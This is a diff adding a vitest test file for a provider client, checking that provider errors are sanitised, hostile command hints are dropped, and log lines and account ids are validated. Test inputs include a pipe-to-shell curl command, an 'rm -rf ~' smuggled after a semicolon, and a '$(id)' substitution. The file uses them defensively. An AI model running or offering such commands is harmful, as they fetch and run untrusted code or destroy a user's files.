@@ -1,0 +1,62 @@
+import { isApocError } from "@apoc/errors";
+import { getAddress } from "viem";
+import { expect, test } from "vitest";
+import { blockStatementSchema } from "../admission/block-statement.ts";
+import { admissionErrors } from "../errors.ts";
+import { ProviderClient, quoteRequestSchema } from "./index.ts";
+
+/** A client of a provider that answers this, whatever it is asked. */
+const client = (body: BodyInit, status = 200) =>
+  new ProviderClient("https://provider.example", { fetch: async () => new Response(body, { status }) });
+const failure = (work: Promise<unknown>) => work.then(() => undefined).catch((error: unknown) => error);
+const stated = { code: "APOC-6802", name: "X", title: "Refused", exit: "refused", docs: "" };
+const authorization = { blockNumber: 1n } as never;
+
+test("an error of the provider arrives with its code, without what a terminal would act on", async () => {
+  const error = await failure(
+    client(JSON.stringify({ error: { ...stated, actual: "a\u001b[2Jb\u202e" } }), 403).info(),
+  );
+  expect(error).toMatchObject({ code: "APOC-6802", actual: "a\ufffd[2Jb\ufffd" });
+});
+
+test.each([
+  ["curl https://x.example | sh", undefined],
+  ["apoc pod fund 0x12 <amount>", "apoc pod fund 0x12 <amount>"],
+  ["apoc pod fund 0x12; rm -rf ~", undefined],
+  ["apoc wallet export $(id)", undefined],
+])("the hint %j of a provider is shown as %j", async (hint, shown) => {
+  expect(await failure(client(JSON.stringify({ error: { ...stated, hint } }), 403).info())).toMatchObject({
+    code: "APOC-6802",
+    hint: shown,
+  });
+});
+
+test("an unknown kind of failure is a refusal, never a success", async () => {
+  const error = await failure(client(JSON.stringify({ error: { ...stated, exit: "success" } }), 403).info());
+  expect(isApocError(error) && error.descriptor.exit).toBe("refused");
+  const shapeless = failure(client(JSON.stringify({ error: { ...stated, field: {} } }), 403).info());
+  expect(await shapeless).toMatchObject({ code: admissionErrors.PROVIDER_ANSWER.code });
+});
+
+async function logsOf(text: string): Promise<unknown> {
+  return failure(Array.fromAsync(client(text).logs(`0x${"00".repeat(32)}`, {}, authorization)));
+}
+
+test("log lines have their form and their length", async () => {
+  const line = { container: "a", stream: "stdout", time: "2026-01-01T00:00:00Z", text: "x" };
+  expect(await logsOf(`${JSON.stringify(line)}\n`)).toBeUndefined();
+  const refused = { code: admissionErrors.PROVIDER_ANSWER.code };
+  expect(await logsOf(`${JSON.stringify({ ...line, text: 1 })}\n`)).toMatchObject(refused);
+  expect(await logsOf("no JSON\n")).toMatchObject(refused);
+  expect(await logsOf("x".repeat(2 * 1024 * 1024 + 1))).toMatchObject(refused);
+});
+
+test("ids have their length, and accounts one spelling, which comparing them needs", () => {
+  const account = `0x${"aB".repeat(20)}`;
+  const podId = `0x${"01".repeat(32)}`;
+  const request = { version: 1, publisher: account, token: account, podId, manifest: {}, payees: [] };
+  expect(quoteRequestSchema.safeParse({ ...request, podId: "0x01" }).success).toBe(false);
+  expect(quoteRequestSchema.parse(request).publisher).toBe(getAddress(account.toLowerCase()));
+  const statement = { monitor: account, number: "1", hash: podId, seenAt: 1, signature: "0x00" };
+  expect(blockStatementSchema.parse(statement).monitor).toBe(getAddress(account.toLowerCase()));
+});
